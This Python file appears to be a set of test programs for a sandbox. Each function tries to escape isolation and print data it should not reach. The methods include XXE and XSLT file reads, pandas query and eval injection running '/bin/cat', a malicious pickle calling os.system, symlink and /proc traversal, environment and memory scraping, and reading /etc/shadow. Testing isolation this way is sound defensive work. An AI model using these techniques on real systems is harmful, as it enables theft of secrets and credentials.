# ruff: noqa: F841, PTH112, PTH123, PTH207, PTH208, PTH211, RUF059, SIM115
"""Programs that try to read what is not theirs; each prints what it finds."""

import contextlib
import ctypes
import gc
import glob
import importlib.util
import linecache
import mmap
import os
import pickle
import re
import sqlite3
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa


def by_open(tables, world):
    print(open(world["secret"]).read())


def by_folder(tables, world):
    print(os.listdir(world["outside"]), list(os.walk(world["outside"])))


def by_glob(tables, world):
    print(*[Path(path).read_text() for path in glob.glob(world["outside"] + "/*")])


def by_libc(tables, world):
    libc = ctypes.CDLL(None, use_errno=True)
    file = libc.open(world["secret"].encode(), os.O_RDONLY)
    buffer = ctypes.create_string_buffer(4096)
    libc.read(file, buffer, 4096)
    print(buffer.value)


def by_openat2(tables, world):
    libc = ctypes.CDLL(None)
    how = (ctypes.c_uint64 * 3)()
    file = libc.syscall(437, -100, world["secret"].encode(), how, ctypes.sizeof(how))
    print(os.read(file, 4096))


def by_mmap(tables, world):
    with open(world["secret"], "rb") as file:
        print(mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)[:])


def by_read_csv(tables, world):
    print(pd.read_csv(world["secret"], header=None))


def by_file_url(tables, world):
    print(pd.read_csv("file://" + world["secret"], header=None))


def by_numpy(tables, world):
    print(bytes(np.fromfile(world["secret"], dtype="u1")))


def by_arrow(tables, world):
    print(pa.memory_map(world["secret"]).read())


def by_xslt(tables, world):
    sheet = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:template match="/"><r><row><a><xsl:value-of select="unparsed-text(\'{0}\')"/>'
        "<xsl:copy-of select=\"document('{0}')\"/></a></row></r></xsl:template></xsl:stylesheet>"
    ).format(world["secret"])
    Path("sheet.xsl").write_text(sheet)
    Path("data.xml").write_text("<r><row><a>1</a></row></r>")
    print(pd.read_xml("data.xml", stylesheet="sheet.xsl").to_string())


def by_entity(tables, world):
    text = (
        f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{world["secret"]}">]><r><row><a>&x;</a></row></r>'
    )
    Path("entity.xml").write_text(text)
    print(pd.read_xml("entity.xml", parser="etree").to_string())


def by_query(tables, world):
    path = world["secret"]
    tables["orders"].query("@pd.io.common.os.system('/bin/cat ' + @path) == order_id")


def by_query_open(tables, world):
    reader = Path(world["secret"])
    print(tables["orders"].assign(t="x").query("t != @reader.read_text() or @print(@reader)"))


def by_eval(tables, world):
    print(eval("__import__('os').popen('/bin/cat ' + p).read()", {"p": world["secret"]}))


def by_subclasses(tables, world):
    kinds = {kind.__name__: kind for kind in ().__class__.__base__.__subclasses__()}
    print(kinds["FileLoader"]("x", world["secret"]).get_data(world["secret"]))


def by_linecache(tables, world):
    print(linecache.getlines(world["secret"]))


def by_import(tables, world):
    spec = importlib.util.spec_from_file_location("secret", world["secret"] + ".py")
    spec.loader.exec_module(importlib.util.module_from_spec(spec))


def by_pickle(tables, world):
    class Evil:
        def __reduce__(self):
            return (os.system, ("/bin/cat " + world["secret"],))

    Path("evil.pkl").write_bytes(pickle.dumps(Evil()))
    print(pd.read_pickle("evil.pkl"))


def by_sqlite(tables, world):
    print(sqlite3.connect(world["secret"]).execute("select * from sqlite_master").fetchall())


def by_symlink(tables, world):
    os.symlink(world["secret"], "link")
    print(open("link").read())


def by_hard_link(tables, world):
    os.link(world["secret"], "link")
    print(open("link").read())


def by_root_of_a_process(tables, world):
    for pid in ("self", "1", str(os.getppid())):
        for place in ("root", "cwd/../../../../.."):
            path = f"/proc/{pid}/{place}{world['secret']}"
            print(Path(path).read_text() if os.access(path, os.R_OK) else "")


def environment(tables, world):
    print(dict(os.environ), os.environb)
    print(ctypes.string_at(ctypes.c_char_p.in_dll(ctypes.CDLL(None), "environ"), 64))


def environment_of_processes(tables, world):
    for pid in ["self", *range(1, 500), os.getppid()]:
        with contextlib.suppress(OSError):
            print(Path(f"/proc/{pid}/environ").read_bytes())


def command_lines_of_processes(tables, world):
    for pid in [*range(1, 500), os.getppid()]:
        for name in ("cmdline", "maps", "mountinfo", "stack"):
            with contextlib.suppress(OSError):
                print(Path(f"/proc/{pid}/{name}").read_bytes())


def open_files_of_processes(tables, world):
    for pid in ["self", *range(1, 500), os.getppid()]:
        for number in range(64):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/fd/{number}", "rb") as file:
                print(file.seekable() and file.read(1 << 20))


def own_open_files(tables, world):
    for number in range(4, 1024):
        with contextlib.suppress(OSError):
            print("ESCAPED", number, os.fstat(number))


def memory_of_processes(tables, world):
    for pid in ("1", str(os.getppid())):
        print(open(f"/proc/{pid}/mem", "rb"), "ESCAPED")


def own_memory(tables, world):
    """Scan every readable page for a cell of a table that this program does not name."""
    pattern = re.compile(b"SALARY-[0-9a-f]{32}")
    for line in open("/proc/self/maps"):
        span, mode, *rest = line.split()
        if mode[0] != "r" or "[v" in line:
            continue
        start, end = (int(part, 16) for part in span.split("-"))
        if end - start < 1 << 31:
            print(*pattern.findall(ctypes.string_at(start, end - start)))


def own_objects(tables, world):
    for thing in gc.get_objects():
        if isinstance(thing, pd.DataFrame | dict) and "salary" in thing:
            print("ESCAPED", thing)


def own_frames(tables, world):
    frame = sys._getframe()
    while frame:
        own = ("jobs", "job", "source")
        print({name: value for name, value in frame.f_locals.items() if name not in own})
        frame = frame.f_back


def other_table_by_name(tables, world):
    print(tables["salaries"])


def other_table_by_file(tables, world):
    print(pa.ipc.open_stream(pa.memory_map(world["salaries"])).read_all())


def credentials(tables, world):
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root", "/var/log/dpkg.log"):
        if os.path.isdir(path):
            print(os.listdir(path), "ESCAPED")
        print(open(path).read(), "ESCAPED")
